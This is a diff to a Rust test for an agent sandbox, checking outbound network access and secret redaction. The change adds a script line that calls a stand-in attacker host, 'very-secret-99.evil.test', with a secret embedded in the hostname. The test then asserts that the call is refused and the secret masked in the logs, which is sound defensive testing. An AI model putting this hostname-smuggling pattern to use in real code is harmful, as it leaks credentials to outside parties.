@@ -92,8 +92,13 @@ fn an_agents_own_hosts_are_reached_and_a_secret_goes_there_unseen() {
     );
     let place = place("\"agent\"", &agent);
     let company = Company::up_with(&place, &[], &[("COMPANY_KEY", "very-Secret-99")]);
-    let script = format!("{TOOLS}\nprint('KEY' in os.environ)\nget('http://{server}/')\nget('http://127.0.0.1:1/')");
-    let answer = company.ended(&company.delegate(&[&script]));
+    let script = format!(
+        "{TOOLS}\nprint('KEY' in os.environ)\nget('http://{server}/')\nget('http://very-secret-99.evil.test/')\n\
+         get('http://127.0.0.1:1/')"
+    );
+    let id = company.delegate(&[&script]);
+    let answer = company.ended(&id);
+    assert!(company.run(&["logs", &id]).done().contains("network: refused ***.evil.test:80: "));
     let output = at(&answer, "task.result.output").as_str().unwrap();
     // The server has got it; that it tells is its own doing, and nothing that the company can know in lower case.
     assert!(output.starts_with("False\ngot ") && output.contains("x-key: bearer very-secret-99"), "{answer:#}");
